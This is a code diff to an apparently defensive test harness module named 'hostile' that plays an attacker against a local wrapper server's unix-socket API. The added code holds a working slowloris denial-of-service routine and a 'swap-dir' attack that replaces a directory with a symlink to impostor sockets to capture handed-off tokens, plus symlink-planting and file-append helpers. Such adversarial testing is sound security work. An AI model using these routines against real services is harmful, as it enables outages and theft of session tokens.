@@ -10,33 +10,60 @@ prints one JSON object.
     python3 -m wraplab.actors.hostile big-args --api API --count N --size B [--seconds S]
     python3 -m wraplab.actors.hostile mkdir --path DIR
     python3 -m wraplab.actors.hostile fake-api --dir DIR --seconds S
+    python3 -m wraplab.actors.hostile slowloris --api API --conns N --interval S --seconds S
+        [--ready FILE]
+    python3 -m wraplab.actors.hostile requests --api API --count N --timeout S
+    python3 -m wraplab.actors.hostile swap-dir --dir WRAPDIR --seconds S [--ready FILE]
+    python3 -m wraplab.actors.hostile append --path FILE --line TEXT
+    python3 -m wraplab.actors.hostile symlink --path LINK --target PATH
 
-``state``: the server process's fd count, threads and RSS (KiB), and the number of
-``wrap-*`` directories under DIR (as root). ``sessions``: N new sessions as fast as
-possible, answers counted by HTTP status. ``browser``: what a web page in a local
-browser can send to a loopback TCP API without a preflight (``Origin``, a foreign
-``Host``, a ``text/plain`` body), answers by case. ``long-paths``: N requests for a
-missing path L bytes long (each a 404 and a log line). ``deep-tree``: a wrap-init of
-our own, then N nested directories inside the wrap directory we were handed (openat,
-one fd at a time). ``ptrace-hold``: a wrap-init of our own (the server in ptrace mode),
-a handoff with our own pid, then the ACKed keepalive held for S seconds. ``big-args``:
-N wrap-inits whose ``agent_args`` hold B bytes, never dialled. ``mkdir``: DIR (0755,
-ours). ``fake-api``: in DIR (ours), move the real API socket aside if there is one, then
-serve a fake API whose wrap-init names our own notify socket, and report any token handed
-to it. Every mode is bounded by its count and ``--seconds``.
+``state``: the server process's fd count, threads, RSS (KiB), CPU seconds, umask and soft
+RLIMIT_NOFILE, and the number of ``wrap-*`` directories under DIR (as root). ``sessions``: N
+new sessions as fast as possible, answers counted by HTTP status. ``browser``: what a web
+page in a local browser can send to a loopback TCP API without a preflight (``Origin``, a
+foreign ``Host``, a ``text/plain`` body), answers by case. ``long-paths``: N requests for a
+missing path L bytes long (each a 404 and a log line). ``deep-tree``: a wrap-init of our
+own, then N nested directories inside the wrap directory we were handed (openat, one fd at a
+time). ``ptrace-hold``: a wrap-init of our own (the server in ptrace mode), a handoff with
+our own pid, then the ACKed keepalive held for S seconds. ``big-args``: N wrap-inits whose
+``agent_args`` hold B bytes, never dialled. ``mkdir``: DIR (0755, ours). ``fake-api``: in
+DIR (ours), move the real API socket aside if there is one, then serve a fake API whose
+wrap-init names our own notify socket, and report any token handed to it. ``slowloris``: N
+API connections held at once, each sending a request line and then one header line every S
+seconds, never the blank line that ends the headers (non-blocking connects: a full backlog
+is EAGAIN, retried until no more connections can be held for 3 s, at most 4 N attempts);
+answers (an HTTP status, or a close) counted; ``--ready`` is created once every connect was
+tried and the answers that came at once were read (until none came for 0.5 s); SIGTERM (or
+``--seconds``) ends it, every connection closed. ``requests``: N sessions created one after
+another, each bounded by the timeout: status and latency of each (what the owner sees).
+``swap-dir``: move WRAPDIR (in a directory we own) aside, put a symlink to a directory of
+ours with our own listener at every socket name it held, and take one handoff: the token
+that arrives. ``append``: append a line to an existing FILE (no create). ``symlink``: plant
+LINK -> PATH. Every mode is bounded by its count and ``--seconds``.
 """
 
 from __future__ import annotations
 
 import argparse
 import array
+import http.client
 import json
 import os
+import resource
+import select
+import signal
 import socket
 import struct
 import time
 
-from wraplab.actors._common import api_request, emit, errno_name, proc_status, wrap_init_body
+from wraplab.actors._common import (
+    api_connection,
+    api_request,
+    emit,
+    errno_name,
+    proc_status,
+    wrap_init_body,
+)
 
 
 def own_wrap(api: str, body=None) -> dict:
@@ -113,6 +140,21 @@ def big_args(api: str, count: int, size: int, seconds: float) -> dict:
     return {"attempts": n, "outcomes": out, "seconds": round(time.monotonic() - t0, 3)}
 
 
+def _nofile(pid: int):
+    with open(f"/proc/{pid}/limits") as f:
+        for line in f:
+            if line.startswith("Max open files"):
+                soft = line.split()[3]
+                return int(soft) if soft.isdigit() else soft
+    return None
+
+
+def _cpu_s(pid: int) -> float:
+    with open(f"/proc/{pid}/stat") as f:
+        fields = f.read().rsplit(")", 1)[-1].split()
+    return round((int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK"), 2)
+
+
 def state(pid: int, base: str) -> dict:
     out = {"pid": pid}
     try:
@@ -120,6 +162,9 @@ def state(pid: int, base: str) -> dict:
         out["fds"] = len(os.listdir(f"/proc/{pid}/fd"))
         out["threads"] = int(status.get("Threads", "0"))
         out["rss_kib"] = int((status.get("VmRSS") or "0 kB").split()[0])
+        out["umask"] = status.get("Umask")
+        out["nofile"] = _nofile(pid)
+        out["cpu_s"] = _cpu_s(pid)
     except FileNotFoundError:
         out["exists"] = False
     try:
@@ -296,6 +341,231 @@ def fake_api(directory: str, seconds: float) -> dict:
     return out
 
 
+_STOP = []
+
+
+def _on_term(_sig, _frame) -> None:
+    _STOP.append(True)
+
+
+def _answer(data: bytes) -> str:
+    """What a server's first bytes on a held connection were: its HTTP status or ``closed``."""
+    parts = data.split(b" ", 2)
+    if not data:
+        return "closed"
+    return parts[1].decode() if len(parts) > 1 and parts[1].isdigit() else "bytes"
+
+
+def slowloris(api: str, conns: int, interval: float, seconds: float, ready: str | None) -> dict:
+    """Hold up to *conns* API connections with headers that never end."""
+    scheme, _, path = api.partition(":")
+    if scheme != "unix":
+        raise SystemExit("slowloris: want a unix:PATH API")
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < conns + 64:  # our own fds must not be what limits the attack
+        resource.setrlimit(resource.RLIMIT_NOFILE, (min(conns + 64, hard), hard))
+    t0 = time.time()
+    deadline = time.monotonic() + seconds
+    held: list[socket.socket] = []
+    answers: dict[str, int] = {}
+    errors: dict[str, int] = {}
+    first = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
+
+    def collect(timeout: float) -> int:
+        """Read what the server sent on held connections; drop the answered ones."""
+        if not held:
+            return 0
+        readable, _, _ = select.select(held, [], [], timeout)
+        for s in readable:
+            try:
+                data = s.recv(4096)
+            except OSError as exc:
+                key = errno_name(exc)
+            else:
+                key = _answer(data)
+            answers[key] = answers.get(key, 0) + 1
+            held.remove(s)
+            s.close()
+        return len(readable)
+
+    # Open until *conns* are held at once, retrying what the backlog or the server turned
+    # away, until no more can be held for a while (the server's bound, or its fds).
+    attempts = 0
+    best, last_gain = 0, time.monotonic()
+    while len(held) < conns and attempts < 4 * conns and not _STOP \
+            and time.monotonic() - last_gain < 3.0 and time.monotonic() < deadline:
+        attempts += 1
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
+        try:
+            s.connect(path)
+            s.send(first)
+        except OSError as exc:
+            key = "EAGAIN" if isinstance(exc, BlockingIOError) else errno_name(exc)
+            errors[key] = errors.get(key, 0) + 1
+            s.close()
+            collect(0.005)  # the backlog is full or the server closed on us: let it work
+        else:
+            held.append(s)
+            if len(held) % 32 == 0:
+                collect(0)
+        if len(held) > best:
+            best, last_gain = len(held), time.monotonic()
+    opened = attempts - sum(errors.values())
+    settle = time.monotonic() + 5  # what a bounded server answers at once comes by then
+    while collect(0.5) and time.monotonic() < settle:
+        pass
+    out = {"conns": conns, "attempts": attempts, "opened": opened, "connect_errors": errors,
+           "held_at_ready": len(held), "answers_at_ready": dict(answers), "t0": t0,
+           "ready_at": time.time()}
+    if ready:
+        os.close(os.open(ready, os.O_WRONLY | os.O_CREAT, 0o644))
+    sent = 0
+    next_send = time.monotonic() + interval
+    while not _STOP and time.monotonic() < deadline and held:
+        collect(max(0.0, min(next_send, deadline) - time.monotonic()))
+        if time.monotonic() >= next_send:
+            for s in list(held):
+                try:
+                    s.send(b"X-Slow: %d\r\n" % sent)
+                except OSError as exc:
+                    key = errno_name(exc)
+                    answers[key] = answers.get(key, 0) + 1
+                    held.remove(s)
+                    s.close()
+            sent += 1
+            next_send = time.monotonic() + interval
+    out.update(held_at_end=len(held), answers=answers, header_lines_sent=sent,
+               seconds=round(time.time() - t0, 3))
+    for s in held:
+        s.close()
+    return out
+
+
+def requests(api: str, count: int, timeout: float) -> dict:
+    """*count* session creations one after another: status (or errno) and latency."""
+    tries = []
+    for _ in range(count):
+        t = time.monotonic()
+        conn = api_connection(api, timeout)
+        st, error = None, None
+        try:
+            conn.request("POST", "/api/v1/sessions", body=b"{}",
+                         headers={"Connection": "close", "Content-Type": "application/json"})
+            resp = conn.getresponse()
+            resp.read()
+            st = resp.status
+        except OSError as exc:
+            error = errno_name(exc)  # EAGAIN: the backlog is full
+        except http.client.HTTPException as exc:
+            error = type(exc).__name__
+        finally:
+            conn.close()
+        tries.append({"status": st, "error": error,
+                      "ms": round((time.monotonic() - t) * 1000, 1)})
+    return {"tries": tries, "ok": sum(1 for t in tries if t["status"] == 201)}
+
+
+def _bound_under(directory: str) -> list[str]:
+    """Names of the sockets bound directly in *directory*, from /proc/net/unix."""
+    prefix = directory.rstrip("/") + "/"
+    names = set()
+    try:
+        with open("/proc/net/unix") as f:
+            for line in f.readlines()[1:]:
+                parts = line.split()
+                if len(parts) >= 8 and parts[7].startswith(prefix) \
+                        and "/" not in parts[7][len(prefix):]:
+                    names.add(parts[7][len(prefix):])
+    except OSError:
+        pass
+    return sorted(names)
+
+
+def swap_dir(wrapdir: str, seconds: float, ready: str | None) -> dict:
+    """Swap *wrapdir* for a symlink to a directory of ours serving its socket names."""
+    parent, name = os.path.split(wrapdir.rstrip("/"))
+    out = {"dir": wrapdir, "swapped": False, "handoffs": 0, "token": None}
+    names = _bound_under(wrapdir)  # /proc/net/unix: readable by all, even when the dir is not
+    if not names:
+        try:
+            names = sorted(n for n in os.listdir(wrapdir) if n.endswith(".sock"))
+        except OSError as exc:
+            out["list_errno"] = errno_name(exc)
+    mine = os.path.join(parent, f".{name}-mallory")
+    listeners = []
+    try:
+        os.mkdir(mine, 0o755)
+        os.rename(wrapdir, os.path.join(parent, f".{name}-moved"))
+        for n in names:
+            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            sock.bind(os.path.join(mine, n))
+            os.chmod(os.path.join(mine, n), 0o666)
+            sock.listen(8)
+            listeners.append(sock)
+        os.symlink(mine, wrapdir)
+        out["swapped"] = True
+    except OSError as exc:
+        out["errno"] = errno_name(exc)
+    out.update(sockets=names, ready_at=time.time())
+    if ready:
+        os.close(os.open(ready, os.O_WRONLY | os.O_CREAT, 0o644))
+    deadline = time.monotonic() + seconds
+    try:
+        while out["swapped"] and not _STOP and out["token"] is None \
+                and time.monotonic() < deadline:
+            readable, _, _ = select.select(listeners, [], [], 0.1)
+            for lst in readable:
+                conn, _ = lst.accept()
+                with conn:
+                    conn.settimeout(2)
+                    fds = array.array("i")
+                    try:
+                        _msg, anc, _f, _a = conn.recvmsg(64, socket.CMSG_SPACE(4 * 4))
+                    except OSError:
+                        continue
+                    for level, kind, raw in anc:
+                        if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
+                            fds.frombytes(raw[: len(raw) - len(raw) % 4])
+                    out["handoffs"] += 1
+                    for fd in fds:
+                        try:
+                            os.set_blocking(fd, False)
+                            got = os.read(fd, 256).decode("utf-8", "replace")
+                            out["token"] = got or out["token"]
+                        except OSError:
+                            pass
+                        finally:
+                            os.close(fd)
+                    try:
+                        conn.sendall(b"\x01")
+                    except OSError:
+                        pass
+    finally:
+        for sock in listeners:
+            sock.close()
+    return out
+
+
+def append(path: str, line: str) -> dict:
+    try:
+        fd = os.open(path, os.O_WRONLY | os.O_APPEND)
+    except OSError as exc:
+        return {"path": path, "errno": errno_name(exc)}
+    try:
+        n = os.write(fd, (line + "\n").encode())
+    finally:
+        os.close(fd)
+    return {"path": path, "appended": n}
+
+
+def plant_symlink(path: str, target: str) -> dict:
+    try:
+        os.symlink(target, path)
+    except OSError as exc:
+        return {"path": path, "errno": errno_name(exc)}
+    return {"path": path, "target": target, "uid": os.getuid()}
+
+
 def main(argv=None):
     parser = argparse.ArgumentParser(prog="hostile", description=__doc__.splitlines()[0])
     sub = parser.add_subparsers(dest="mode", required=True)
@@ -329,8 +599,41 @@ def main(argv=None):
     p = sub.add_parser("fake-api")
     p.add_argument("--dir", required=True)
     p.add_argument("--seconds", type=float, required=True)
+    p = sub.add_parser("slowloris")
+    p.add_argument("--api", required=True)
+    p.add_argument("--conns", type=int, required=True)
+    p.add_argument("--interval", type=float, default=2.0)
+    p.add_argument("--seconds", type=float, required=True)
+    p.add_argument("--ready")
+    p = sub.add_parser("requests")
+    p.add_argument("--api", required=True)
+    p.add_argument("--count", type=int, required=True)
+    p.add_argument("--timeout", type=float, default=2.0)
+    p = sub.add_parser("swap-dir")
+    p.add_argument("--dir", required=True)
+    p.add_argument("--seconds", type=float, required=True)
+    p.add_argument("--ready")
+    p = sub.add_parser("append")
+    p.add_argument("--path", required=True)
+    p.add_argument("--line", required=True)
+    p = sub.add_parser("symlink")
+    p.add_argument("--path", required=True)
+    p.add_argument("--target", required=True)
     args = parser.parse_args(argv)
-    if args.mode == "state":
+    if args.mode in ("slowloris", "swap-dir"):
+        signal.signal(signal.SIGTERM, _on_term)  # ends the hold; the report still prints
+    if args.mode == "slowloris":
+        emit(slowloris(args.api, min(args.conns, 20000), args.interval,
+                       min(args.seconds, 120.0), args.ready))
+    elif args.mode == "requests":
+        emit(requests(args.api, min(args.count, 100), args.timeout))
+    elif args.mode == "swap-dir":
+        emit(swap_dir(args.dir, min(args.seconds, 60.0), args.ready))
+    elif args.mode == "append":
+        emit(append(args.path, args.line))
+    elif args.mode == "symlink":
+        emit(plant_symlink(args.path, args.target))
+    elif args.mode == "state":
         emit(state(args.pid, args.base))
     elif args.mode == "sessions":
         emit(sessions(args.api, args.count, args.seconds))
